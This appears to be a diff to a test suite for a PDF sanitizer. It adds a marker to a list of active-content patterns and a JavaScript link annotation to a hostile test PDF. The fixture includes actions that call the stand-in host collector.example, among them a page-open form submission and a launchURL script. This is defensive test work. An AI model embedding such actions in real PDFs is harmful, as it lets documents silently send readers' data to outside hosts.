@@ -215,6 +215,7 @@ COLLECTOR = b"collector.example"  # where the hostile PDF's scripts would send w
 # Left in no copy of pdf_with_active_content (searched with every stream decompressed).
 ACTIVE_PDF_MARKERS = (
     b"/JavaScript",
+    b"JavaScript:",
     b"/JS",
     b"/OpenAction",
     b"/AA",
@@ -266,7 +267,7 @@ def pdf_with_active_content() -> bytes:
         b" /AcroForm << /Fields [] /XFA 12 0 R >> >>",
         b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
         b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Resources << >> /Contents 13 0 R"
-        b" /Annots [10 0 R 11 0 R]"
+        b" /Annots [10 0 R 11 0 R 17 0 R]"
         b" /AA << /O << /S /SubmitForm /F << /FS /URL /F (https://"
         + COLLECTOR
         + b"/form) >> >> >> >>",
@@ -284,6 +285,8 @@ def pdf_with_active_content() -> bytes:
         _stream(script, deflate=True),
         b"<< /Type /Filespec /F (notes.txt) /EF << /F 16 0 R >> >>",
         _stream(b"Notes by " + PERSON.encode(), b"/Type /EmbeddedFile "),
+        b"<< /Type /Annot /Subtype /Link /Rect [10 30 90 40]"
+        b" /A << /S /URI /URI (JavaScript:app.launchURL\\('https://" + COLLECTOR + b"'\\)) >> >>",
     ]
     return _pdf_file(objects, b"/Root 1 0 R /Info 5 0 R")
 
